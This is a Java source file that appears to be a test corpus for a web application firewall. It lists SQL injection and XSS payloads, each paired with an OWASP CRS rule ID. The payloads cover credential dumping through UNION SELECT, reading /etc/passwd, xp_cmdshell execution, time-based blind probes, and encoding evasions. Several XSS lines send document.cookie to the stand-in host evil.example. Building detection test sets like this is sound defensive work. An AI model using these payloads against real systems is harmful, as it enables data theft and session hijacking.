package dev.tdeveloper.security.waf.corpus;

import java.util.List;

/**
 * SQL injection and XSS payloads, written for this corpus: classic shapes plus the evasions CRS
 * normalises (case mixing, inline comments, HTML entities, JS unicode escapes, UTF-7, double and
 * {@code %u} URL encoding).
 */
final class InjectionSeeds {

  private InjectionSeeds() {}

  static List<Seed> sqli() {
    String f = "sqli";
    return List.of(
        Seed.of(f, "id", "1' OR '1'='1", "942", 1, "qfjdu"),
        Seed.of(f, "id", "1' OR 1=1-- -", "942", 1, "qfjcm"),
        Seed.of(f, "id", "1 UNION SELECT username, password FROM users", "942270", 1, "qfjdum"),
        Seed.of(f, "id", "-7' UNION ALL SELECT NULL,NULL,version()-- -", "942", 1, "qfjc"),
        Seed.of(f, "id", "1 AND SLEEP(5)", "942160", 1, "qfjcd"),
        Seed.of(f, "id", "1; WAITFOR DELAY '0:0:5'--", "942280", 1, "qfj"),
        Seed.of(f, "id", "1' AND BENCHMARK(5000000,MD5(1))#", "942160", 1, "qfjd"),
        Seed.of(
            f, "id", "1 AND 1=(SELECT COUNT(*) FROM information_schema.tables)", "942", 1, "qfjc"),
        Seed.of(f, "name", "x'; DROP TABLE users; --", "942", 1, "qfj"),
        Seed.of(f, "id", "1 UnIoN/**/SeLeCt 1,2,3 FrOm dual", "942270", 1, "qfjdu"),
        Seed.of(f, "id", "-1' union select load_file('/etc/passwd')-- ", "942", 1, "qfj"),
        Seed.of(f, "order", "1) or pg_sleep(5)--", "942160", 1, "qfjc"),
        Seed.of(f, "id", "1' and extractvalue(1,concat(0x7e,(select user())))-- ", "942", 1, "qfj"),
        Seed.of(f, "id", "1 AND updatexml(1,concat(0x7e,database()),1)", "942190", 1, "qfj"),
        Seed.of(f, "q", "' HAVING 1=1--", "942", 1, "qfj"),
        Seed.of(f, "id", "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- ", "942160", 1, "qfjc"),
        Seed.of(f, "user", "admin' or ''='", "942", 1, "qfj"),
        Seed.of(f, "id", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2", "942500", 1, "qfj"),
        Seed.of(f, "id", "1' AND 1=CONVERT(int,(SELECT @@version))--", "942", 1, "qf"),
        Seed.of(f, "id", "1;EXEC master..xp_cmdshell 'ping 10.0.0.1'--", "942", 1, "qf"),
        Seed.of(f, "q", "x' or 1=1 limit 1 offset 0 -- -+", "942", 1, "ar"),
        Seed.of(
            f,
            "id",
            "1 union select 1,group_concat(table_name) from information_schema.tables",
            "942",
            1,
            "q"));
  }

  static List<Seed> xss() {
    String f = "xss";
    return List.of(
        Seed.of(f, "q", "<script>alert(1)</script>", "941", 1, "qfjdum"),
        Seed.of(f, "q", "<img src=x onerror=alert(document.domain)>", "941", 1, "qfjc"),
        Seed.of(f, "name", "<svg/onload=alert(1)>", "941", 1, "qfjd"),
        Seed.of(
            f,
            "q",
            "\"><script>fetch('//evil.example/'+document.cookie)</script>",
            "941",
            1,
            "qfj"),
        Seed.of(f, "next", "javascript:alert(1)", "941", 1, "qfj"),
        Seed.of(f, "q", "<iframe src=\"javascript:alert(1)\"></iframe>", "941", 1, "qfj"),
        Seed.of(f, "bio", "<body onload=alert('x')>", "941", 1, "qfjm"),
        Seed.of(
            f,
            "q",
            "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
                + "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
            "941",
            1,
            "qf"),
        Seed.of(
            f, "q", "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>", "941110", 1, "qfj"),
        Seed.of(f, "q", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "941", 1, "qfj"),
        Seed.of(f, "q", "<details open ontoggle=alert(1)>", "941", 1, "qfj"),
        Seed.of(f, "q", "<input autofocus onfocus=alert(1)>", "941", 1, "qfjc"),
        Seed.of(f, "q", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "941", 1, "qf"),
        Seed.of(
            f,
            "q",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
            "941",
            1,
            "qfj"),
        Seed.of(
            f,
            "comment",
            "<a href=\"#\" onclick=\"document.location='https://evil.example/?c='+document.cookie\">x</a>",
            "941",
            1,
            "qfjm"),
        Seed.of(f, "q", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "941350", 1, "qf"),
        Seed.of(f, "q", "<div style=\"background:url(javascript:alert(1))\">", "941", 1, "qf"),
        Seed.of(f, "q", "<link rel=import href=\"https://evil.example/x.html\">", "941", 1, "qf"),
        Seed.of(
            f,
            "q",
            "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
            "941",
            1,
            "qf"),
        Seed.of(f, "q", "{{constructor.constructor('alert(1)')()}}", "941380", 2, "qf"),
        Seed.of(f, "q", "<script>alert(1)</script>", "941", 1, "ar"),
        Seed.of(
            f,
            "q",
            "<embed src=\"https://evil.example/x.swf\" type=\"application/x-shockwave-flash\">",
            "941",
            1,
            "qj"));
  }
}
